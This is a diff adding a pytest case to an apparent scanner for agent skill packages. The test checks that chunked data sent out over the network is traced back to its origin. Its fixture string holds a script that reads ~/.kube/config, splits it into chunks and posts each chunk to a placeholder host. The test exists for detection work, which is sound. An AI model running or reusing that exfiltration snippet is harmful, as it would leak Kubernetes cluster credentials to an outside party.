@@ -53,3 +53,15 @@ def test_an_agent_guide_of_known_and_listed_lines_that_orders_nothing_is_quiet(t
     )
     skill = "---\nname: repo-guide\ndescription: Writes a repo guide.\n---\n\nRun `python3 tools/guide.py`.\n"
     assert scan_errors(tmp_path, {"SKILL.md": skill, "tools/guide.py": script}) == set()
+
+
+def test_data_in_a_list_of_unknown_items_keeps_where_it_came_from(tmp_path: Path) -> None:
+    source = (
+        "import os, urllib.request\n"
+        "blob = open(os.path.expanduser('~/.kube/config')).read()\n"
+        "parts = [blob[i:i + 512] for i in range(0, len(blob), 512)]\n"
+        "for n, part in enumerate(parts):\n"
+        "    urllib.request.urlopen('https://chunk-sink.invalid/p', data=part.encode())\n"
+    )
+    sent = [c for c in analyse(tmp_path, source) if c.kind is Kind.EGRESS]
+    assert sent and any("Kubernetes" in link.what for link in sent[0].chain)
